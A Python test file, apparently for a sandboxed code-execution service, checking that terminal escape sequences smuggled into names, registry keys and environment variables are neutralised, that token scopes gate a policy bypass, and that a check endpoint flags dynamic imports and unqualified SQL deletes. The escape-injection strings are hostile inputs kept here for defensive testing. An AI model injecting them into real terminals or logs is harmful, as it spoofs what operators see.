        "languages": ("languages",), "languages --json": ("languages", "--json"), "doctor": ("doctor",), "prepare": ("prepare", name),
        "run": ("run", "--cold", "-l", name, "-c", "1"), "project": ("run", "--cold", "-l", "bash", "-c", "1", "--project", place + STEERS),
        "env": ("run", "--cold", "-l", "bash", "-c", "true", "--env", STEERS),
    })
    kit.contains(shown["run"], "own\\u001b]0;owned\\u0007")
    # What is wrong with a file is quoted from it.
    for file, text in (("registry.yaml", f'containers: {{"a{STEERS.encode("unicode_escape").decode()}": {{language: none}}}}\n'), (".env", f"OWN{STEERS}=1\n")):
        wrong = kit.write(os.path.join(place, file), text, 0o600)
        unsteered(place, commands)
        os.unlink(wrong)


@kit.test(timeout=60)
def who_is_trusted_may_leave_it_out():
    place = home()
    plain = run(place, "token", "add", "plain", "--scope", "execute").text.split()[0]
    trusted = run(place, "token", "add", "friend", "--scope", "execute,trusted").text.split()[0]
    running = Service(listen=True, home=place, env=BLOCK)
    request = {"language": "python", "code": "import os; print(1)", "policy": "off"}
    refused = Web(running, token=plain).post("/v1/execute", request)
    kit.equal(refused.error, (403, "forbidden_scope", "policy"))
    answer = Web(running, token=trusted).post("/v1/execute", request)
    kit.equal((answer.status, answer.json.get("stdout")), (200, "1\n"), repr(answer.body[:300]))
    # The first token is the owner's own, and admin is everything: both may, and both are written down.
    admin = run(place, "token", "add", "chief", "--scope", "admin").text.split()[0]
    # The service reads its tokens again when it hears of the change.
    kit.eventually(lambda: Web(running, token=admin).get("/v1/languages").status == 200, "the new token is not known")
    answer = Web(running, token=admin).post("/v1/execute", request)
    kit.equal((answer.status, answer.json.get("stdout")), (200, "1\n"), repr(answer.body[:300]))
    kit.equal(Web(running).post("/v1/execute", request).json["stdout"], "1\n")
    kit.eventually(lambda: [e["caller"] for e in events(place, "policy_bypassed")] == ["friend", "chief", "default"], "it is not written down")


@kit.test(timeout=60)
def check_over_http():
    running = Service(listen=True, home=home("policy: {python: {block: [json]}}\n"))
    asking = Web(running)
    report = asking.post("/v1/check", {"language": "py", "code": "import json\nx = __import__('o' + 's')\n"}).json
    kit.equal([(e["module"], e["how"], e["blocked"]) for e in report["imports"]], [("json", "plain", True), ("os", "dynamic", True)])
    kit.equal(asking.post("/v1/check", {"language": "sql", "code": "DELETE FROM t"}).json["findings"][0]["rule"], "delete !where")
    kit.equal(asking.post("/v1/check", {"language": "lua", "code": "x"}).json["checked"], False)
    for body, field in (({"language": "python"}, "code"), ({"code": "x"}, "language"), ({"language": "nope", "code": "x"}, "language"),
                        ({"language": "c", "code": "x", "more": 1}, "more")):
        answer = asking.post("/v1/check", body)
        kit.equal((answer.status, answer.json["error"]["field"]), (400, field))
    for body, sentence in (({"lang": "c", "code": "x"}, "lang: there is no such field; did you mean language?"),
                           ({"sandboxing": 1}, "sandboxing: there is no such field; leave it out")):
        kit.equal(asking.post("/v1/check", body).json["error"]["message"], sentence)


kit.main()
